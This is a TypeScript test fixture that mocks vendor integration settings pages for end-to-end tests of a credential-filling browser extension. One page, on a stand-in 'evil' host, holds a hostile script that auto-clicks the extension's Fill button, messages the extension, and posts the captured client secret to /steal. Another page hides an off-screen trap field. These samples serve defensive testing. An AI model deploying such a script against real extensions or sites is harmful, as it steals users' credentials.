// Mock destinations: integration settings pages of the tools that consume a credential, each on
// its own hostname, and the endpoint each form submits to. The end-to-end fill tests assert the
// exact values that arrive here. Pages are plain HTML with small inline scripts that behave like
// the frameworks (React's value tracker, Angular's model on input events): no build step.
import type { MockRequest, MockResponse, VendorMock } from '../mock-vendors/server';
import { html, json } from '../mock-vendors/server';

export interface Submission {
  host: string;
  path: string;
  fields: Record<string, string>;
  /** Uploaded files: field name → { name, text }. */
  files: Record<string, { name: string; text: string }>;
}

export const destinationHosts = {
  plain: 'app.airmdr.com',
  react: 'acme-admin.okta.com',
  angular: 'acme.kb.eu-west-1.aws.elastic-cloud.com',
  region: 'app.stackone.com',
  file: 'apple-sync.destinations.test',
  hostile: 'evil.destinations.test',
  demo: 'integrations.demo-siem.test',
  school: 'school-sync.destinations.test',
} as const;

const page = (title: string, body: string) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>
<style>body{font:15px system-ui;margin:24px;max-width:640px} label{display:block;margin-top:12px;font-weight:600} input,select,textarea{width:100%;padding:6px;box-sizing:border-box} small{color:#555} .row{display:flex;align-items:center;gap:4px}</style>
</head><body>${body}</body></html>`;

const plainPage = page(
  'AirMDR · Integrations',
  `<h1>Integrations</h1><h2>Jamf Pro · Create connection</h2>
<form method="post" action="/integrations/jamf-pro">
  <label for="name">Instance name</label><input id="name" name="name" value="acme-Jamf Pro">
  <label for="base">Base URL</label><input id="base" name="base_url" placeholder="https://yourcompany.jamfcloud.com">
  <label for="cid">Client ID</label><input id="cid" name="client_id">
  <label for="pw">Client Password</label><input id="pw" name="client_password" type="password">
  <input name="trap_secret" aria-label="Client secret" style="position:absolute;left:-9999px;top:-9999px">
  <input type="hidden" name="csrf" value="token-123">
  <label for="ro">Client secret (read only)</label><input id="ro" name="readonly_secret" readonly>
  <p><button type="submit">Create</button></p>
</form>`,
);

// React keeps the value it last rendered on the element (its "value tracker") and ignores an input
// event whose value matches it; state, not the DOM, is what gets submitted.
const reactPage = page(
  'Jamf Pro Admin Console · Okta',
  `<h1>Jamf Pro Admin Console</h1><h2>General settings</h2>
<div id="app"></div>
<script>
const state = { domain: '', clientId: '', clientSecret: '' };
const app = document.getElementById('app');
const fields = [['domain', 'Domain', 'text', 'Without https:// or a path, e.g. yourcompany.jamfcloud.com'], ['clientId', 'Client ID', 'text', ''], ['clientSecret', 'Client Secret', 'password', '']];
for (const [key, label, type, help] of fields) {
  const l = document.createElement('label'); l.htmlFor = key; l.textContent = label;
  const input = document.createElement('input'); input.id = key; input.type = type;
  const native = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  let tracked = '';
  Object.defineProperty(input, 'value', { configurable: true, get() { return native.get.call(input); }, set(v) { tracked = String(v); native.set.call(input, v); } });
  input.addEventListener('input', () => {
    const now = native.get.call(input);
    if (now === tracked) return;
    tracked = now; state[key] = now;
    input.value = state[key]; // controlled: re-render from state
  });
  app.append(l, input);
  if (help) { const s = document.createElement('small'); s.textContent = help; app.append(s); }
}
const save = document.createElement('button'); save.textContent = 'Save';
save.addEventListener('click', async () => {
  const r = await fetch('/api/v1/apps/jamf', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(state) });
  document.getElementById('out').textContent = r.ok ? 'Saved' : 'Failed';
});
const out = document.createElement('p'); out.id = 'out'; out.setAttribute('role', 'status');
app.append(document.createElement('p'), save, out);
</script>`,
);

// Angular-style: a model written only by (input) handlers, ng-* state classes, Save disabled
// until the model is valid; the model is what gets submitted.
const angularPage = page(
  'Kibana · Add Jamf Pro integration',
  `<h1>Add Jamf Pro integration</h1>
<form id="f" novalidate class="ng-untouched ng-pristine ng-invalid">
  <label for="host">Jamf Pro API Host</label><input id="host" formcontrolname="api_host" class="ng-untouched ng-pristine">
  <small>Jamf Pro dashboard URL like in format https://xxxxxxxxxxxx.jamfcloud.com/</small>
  <label for="cid">Client ID</label><input id="cid" formcontrolname="client_id" class="ng-untouched ng-pristine">
  <label for="sec">Client Secret</label><input id="sec" type="password" formcontrolname="client_secret" class="ng-untouched ng-pristine">
  <p><button id="save" type="button" disabled>Save and continue</button></p><p id="out" role="status"></p>
</form>
<script>
const model = { api_host: '', client_id: '', client_secret: '' };
const save = document.getElementById('save');
for (const input of document.querySelectorAll('[formcontrolname]')) {
  input.addEventListener('input', (e) => { model[input.getAttribute('formcontrolname')] = e.target.value; input.classList.replace('ng-pristine', 'ng-dirty'); check(); });
  input.addEventListener('blur', () => input.classList.replace('ng-untouched', 'ng-touched'));
}
function check() { save.disabled = !(model.api_host && model.client_id && model.client_secret); }
save.addEventListener('click', async () => {
  const r = await fetch('/api/fleet/package_policies', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(model) });
  document.getElementById('out').textContent = r.ok ? 'Saved' : 'Failed';
});
</script>`,
);

const regionPage = page(
  'StackOne · Connect JumpCloud',
  `<h1>Connect JumpCloud</h1>
<form method="post" action="/connect/jumpcloud">
  <label for="region">Region</label>
  <select id="region" name="region"><option value="">Select a region</option><option value="https://console.jumpcloud.com">United States</option><option value="https://console.eu.jumpcloud.com">Europe</option><option value="https://console.in.jumpcloud.com">India</option></select>
  <label for="org">Organisation ID</label><input id="org" name="org_id">
  <label for="key">API Key</label><input id="key" name="api_key" type="password">
  <label for="exp">Key expiry date</label><input id="exp" name="expires" placeholder="mm/dd/yyyy" pattern="\\d{2}/\\d{2}/\\d{4}">
  <p><button type="submit">Connect</button></p>
</form>`,
);

const filePage = page(
  'Apple device sync · Settings',
  `<h1>Apple Business Manager API</h1>
<form method="post" action="/settings/apple" enctype="multipart/form-data">
  <label for="cid">Client ID</label><input id="cid" name="client_id">
  <label for="kid">Key ID</label><input id="kid" name="key_id">
  <label for="key">Private key (.pem file)</label><input id="key" name="private_key" type="file" accept=".pem">
  <p><button type="submit">Save</button></p>
</form>`,
);

// A page that wants the secrets without the admin: it watches for Keyhold's panel and clicks
// "Fill" itself, and tries to message the extension directly.
const hostilePage = page(
  'Jamf Pro connection',
  `<h1>Jamf Pro connection</h1>
<form method="post" action="/steal">
  <label for="base">Server URL</label><input id="base" name="base_url">
  <label for="cid">Client ID</label><input id="cid" name="client_id">
  <label for="sec">Client Secret</label><input id="sec" name="client_secret" type="password">
</form>
<p id="log"></p>
<script>
const log = (t) => { document.getElementById('log').textContent += t + ' '; };
try { chrome.runtime.sendMessage({ type: 'fill.values', payload: {} }); log('sent'); } catch (e) { log('no-runtime'); }
window.postMessage({ type: 'fill.values' }, '*');
setInterval(() => {
  const host = document.querySelector('keyhold-fill');
  const button = host && host.shadowRoot && [...host.shadowRoot.querySelectorAll('button')].find((b) => b.textContent === 'Fill');
  if (button) { button.click(); button.dispatchEvent(new MouseEvent('click', { bubbles: true })); log('clicked'); }
}, 50);
setInterval(() => { if (document.getElementById('sec').value) fetch('/steal', { method: 'POST', body: document.getElementById('sec').value }); }, 100);
</script>`,
);

const demoPage = page(
  'Acme SIEM · Integration settings',
  `<h1>Acme SIEM</h1><h2>Integration settings · Jamf Pro</h2>
<p>Connect your Jamf Pro server so Acme SIEM can read device inventory.</p>
<form method="post" action="/integrations/jamf">
  <label for="url">Jamf Pro server URL</label><input id="url" name="server_url" type="url" placeholder="https://yourcompany.jamfcloud.com">
  <label for="cid">Client ID</label><input id="cid" name="client_id">
  <label for="sec">Client secret</label><input id="sec" name="client_secret" type="password">
  <p><button type="submit">Save integration</button></p>
</form>`,
);

// A Jamf School connector (issue #18): the school's URL, its Network ID in a number box, the API key.
const schoolPage = page(
  'Roster sync · Connectors',
  `<h1>Connectors</h1><h2>Jamf School</h2>
<form method="post" action="/connectors/jamf-school">
  <label for="url">Jamf School URL</label><input id="url" name="school_url" type="url" placeholder="https://yourschool.jamfcloud.com">
  <label for="nid">Network ID</label><input id="nid" name="network_id" type="number">
  <label for="key">API Key</label><input id="key" name="api_key" type="password">
  <p><button type="submit">Connect</button></p>
</form>`,
);

const pages: Record<string, string> = {
  [destinationHosts.plain]: plainPage,
  [destinationHosts.react]: reactPage,
  [destinationHosts.angular]: angularPage,
  [destinationHosts.region]: regionPage,
  [destinationHosts.file]: filePage,
  [destinationHosts.hostile]: hostilePage,
  [destinationHosts.demo]: demoPage,
  [destinationHosts.school]: schoolPage,
};

/** multipart/form-data: text fields and files (enough for the fixture forms). */
function parseMultipart(body: string, contentType: string): Pick<Submission, 'fields' | 'files'> {
  const boundary = /boundary=(?:"([^"]+)"|([^;]+))/i.exec(contentType);
  const fields: Record<string, string> = {};
  const files: Submission['files'] = {};
  if (!boundary) return { fields, files };
  for (const part of body.split(`--${boundary[1] ?? boundary[2]}`)) {
    const match = /^\r\n([\s\S]*?)\r\n\r\n([\s\S]*)\r\n$/.exec(part);
    if (!match) continue;
    const name = /name="([^"]*)"/.exec(match[1])?.[1];
    const filename = /filename="([^"]*)"/.exec(match[1])?.[1];
    if (!name) continue;
    if (filename !== undefined) files[name] = { name: filename, text: match[2] };
    else fields[name] = match[2];
  }
  return { fields, files };
}

export function createDestinationsMock() {
  const submissions: Submission[] = [];
  const mock: VendorMock = {
    name: 'destinations',
    hostPatterns: Object.values(destinationHosts),
    handle(request: MockRequest): MockResponse | undefined {
      const body = pages[request.host];
      if (body === undefined) return undefined;
      if (request.method === 'GET') return request.path === '/' || !request.path.startsWith('/api') ? html(body) : json(404, {});
      const type = String(request.headers['content-type'] ?? '');
      const parsed = /multipart\/form-data/i.test(type)
        ? parseMultipart(request.body, type)
        : /json/i.test(type)
          ? { fields: JSON.parse(request.body || '{}') as Record<string, string>, files: {} }
          : request.form
            ? { fields: Object.fromEntries(request.form), files: {} }
            : { fields: { body: request.body }, files: {} };
      submissions.push({ host: request.host, path: request.path, ...parsed });
      return /json/i.test(type) ? json(200, { ok: true }) : html(`<h1>Saved</h1><p>${request.path}</p>`);
    },
    reset() {
      submissions.length = 0;
    },
  };
  return Object.assign(mock, { submissions, url: (key: keyof typeof destinationHosts) => `https://${destinationHosts[key]}/settings` });
}
